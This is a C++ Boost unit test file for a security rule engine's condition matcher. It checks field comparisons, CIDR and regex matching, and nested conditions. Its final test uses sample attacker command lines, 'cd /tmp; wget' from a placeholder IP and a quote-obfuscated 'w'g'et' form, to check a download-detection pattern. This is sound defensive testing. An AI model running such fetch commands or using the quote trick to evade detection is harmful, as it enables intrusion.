#include "match/predicate.hpp"

#include <rulehost/event.hpp>
#include <rulehost/json_text.hpp>
#include <rulehost/rule_reader.hpp>

#include <boost/json/parse.hpp>
#include <boost/test/unit_test.hpp>

#include <ostream>
#include <string>

namespace rulehost {

std::ostream& operator<<(std::ostream& out, truth value) {
    return out << (value == truth::yes ? "yes" : value == truth::no ? "no" : "unknown");
}

namespace {

constexpr std::size_t scan_limit = 64 * 1024;

/// Whether `condition`, in YAML on one line, holds for `payload`.
truth holds(std::string const& condition, std::string const& payload, std::string const& kind = "http_request") {
    auto const documents = read_rules("rule_id: R1\nname: a_test\napplies_to: [" + kind + "]\nmatch: " + condition +
                                          "\nemits: [{tactic: TA0011, technique_id: T1105, confidence: 0.9}]\n",
                                      "test.yaml");
    BOOST_REQUIRE_EQUAL(documents.size(), 1u);
    BOOST_REQUIRE_MESSAGE(documents[0].definition, condition);
    std::uint32_t tests = 0;
    predicate const asked(documents[0].definition->match, kind, tests);
    event e;
    e.source_kind = kind;
    e.attacker_uuid = "attacker";
    e.payload = boost::json::parse(payload).as_object();
    subject on;
    on.look_at(e, scan_limit);
    on.begin_rule();
    match_detail found;
    return asked.test(on, found);
}

struct row {
    char const* condition;
    char const* payload;
    truth expected;
};

constexpr auto yes = truth::yes;
constexpr auto no = truth::no;

} // namespace

BOOST_AUTO_TEST_SUITE(predicates)

BOOST_AUTO_TEST_CASE(each_comparison_holds_for_its_values_and_no_others) {
    row const table[] = {
        {"{field: a, equals: x}", R"({"a": "x"})", yes},
        {"{field: a, equals: x}", R"({"a": "X"})", no},
        {"{field: a, equals: x, ignore_case: true}", R"({"a": "X"})", yes},
        {"{field: a, equals: 1}", R"({"a": 1})", yes},
        {"{field: a, equals: 1}", R"({"a": "1"})", no},
        {"{field: a, equals: true}", R"({"a": true})", yes},
        {"{field: a, equals: true}", R"({"a": 1})", no},
        {"{field: a, one_of: [x, y]}", R"({"a": "y"})", yes},
        {"{field: a, one_of: [x, y]}", R"({"a": "z"})", no},
        {"{field: a, contains: bc}", R"({"a": "abcd"})", yes},
        {"{field: a, contains: [q, bc]}", R"({"a": "abcd"})", yes},
        {"{field: a, contains: bd}", R"({"a": "abcd"})", no},
        {"{field: a, starts_with: ab}", R"({"a": "abcd"})", yes},
        {"{field: a, starts_with: bc}", R"({"a": "abcd"})", no},
        {"{field: a, ends_with: cd}", R"({"a": "abcd"})", yes},
        {"{field: a, ends_with: bc}", R"({"a": "abcd"})", no},
        {"{field: a, pattern: 'b+c'}", R"({"a": "abbcd"})", yes},
        {"{field: a, pattern: '^b'}", R"({"a": "abbcd"})", no},
        {"{field: a, cidr: [10.0.0.0/8]}", R"({"a": "10.1.2.3"})", yes},
        {"{field: a, cidr: [10.0.0.0/8]}", R"({"a": "11.1.2.3"})", no},
        {"{field: a, cidr: ['fe80::/10']}", R"({"a": "fe80::1"})", yes},
        {"{field: a, at_least: 5}", R"({"a": 5})", yes},
        {"{field: a, greater_than: 5}", R"({"a": 5})", no},
        {"{field: a, greater_than: 5}", R"({"a": 5.5})", yes},
        {"{field: a, less_than: 5}", R"({"a": -1})", yes},
        {"{field: a, at_most: 5}", R"({"a": 6})", no},
        {"{field: a, at_least: 5}", R"({"a": "6"})", no},
        {"{field: a, length: {at_least: 3}}", R"({"a": "abc"})", yes},
        {"{field: a, length: {at_least: 3}}", R"({"a": [1, 2]})", no},
        {"{field: a, equals_field: b}", R"({"a": "x", "b": "x"})", yes},
        {"{field: a, differs_from_field: b}", R"({"a": "x", "b": "y"})", yes},
        {"{field: a, differs_from_field: b}", R"({"a": "x", "b": "x"})", no},
    };
    for (auto const& [condition, payload, expected] : table)
        BOOST_TEST(holds(condition, payload) == expected, condition << " of " << payload);
}

BOOST_AUTO_TEST_CASE(a_missing_field_fails_every_test_but_the_one_for_its_absence) {
    for (auto const* const missing : {"{}", R"({"a": null})", R"({"b": {"a": "x"}})"}) {
        BOOST_TEST(holds("{field: a, equals: x}", missing) == no);
        BOOST_TEST(holds("{field: a, differs_from_field: b}", missing) == no);
        BOOST_TEST(holds("{field: a, exists: true}", missing) == no);
        BOOST_TEST(holds("{field: a, exists: false}", missing) == yes);
    }
}

BOOST_AUTO_TEST_CASE(one_element_of_a_list_is_enough_unless_all_are_required) {
    BOOST_TEST(holds("{field: a, equals: x}", R"({"a": ["y", "x"]})") == yes);
    BOOST_TEST(holds("{field: a, equals: x, all: true}", R"({"a": ["y", "x"]})") == no);
    BOOST_TEST(holds("{field: a, equals: x, all: true}", R"({"a": ["x", "x"]})") == yes);
    BOOST_TEST(holds("{field: a.b, equals: x}", R"({"a": [{"b": "y"}, {"b": "x"}]})") == yes);
}

BOOST_AUTO_TEST_CASE(conditions_nest) {
    auto const* const payload = R"({"a": "x", "b": "y"})";
    BOOST_TEST(holds("{all_of: [{field: a, equals: x}, {field: b, equals: y}]}", payload) == yes);
    BOOST_TEST(holds("{all_of: [{field: a, equals: x}, {field: b, equals: z}]}", payload) == no);
    BOOST_TEST(holds("{any_of: [{field: a, equals: z}, {field: b, equals: y}]}", payload) == yes);
    BOOST_TEST(holds("{any_of: [{field: a, equals: z}, {field: b, equals: z}]}", payload) == no);
    BOOST_TEST(holds("{not: {field: a, equals: x}}", payload) == no);
    BOOST_TEST(holds("{not: {field: a, equals: z}}", payload) == yes);
}

BOOST_AUTO_TEST_CASE(anchors_are_read_from_the_event) {
    BOOST_TEST(holds("{field: attacker_uuid, equals: attacker}", R"({"attacker_uuid": "of the payload"})") == yes);
}

BOOST_AUTO_TEST_CASE(a_command_line_is_tested_in_its_parts_and_without_quotes) {
    auto const on_line = [](std::string const& condition, std::string const& line) {
        boost::json::object payload{{"command_text", line}};
        return holds(condition, json_text(payload), "command");
    };
    BOOST_TEST(on_line("{field: command_text, pattern: '^wget '}", "cd /tmp; wget http://203.0.113.7/x") == yes);
    BOOST_TEST(on_line("{field: command_text, pattern: '^wget '}", "w'g'et http://203.0.113.7/x") == yes);
    BOOST_TEST(on_line("{field: command_text, pattern: '^wget '}", "echo wget") == no);
}

BOOST_AUTO_TEST_SUITE_END()

} // namespace rulehost
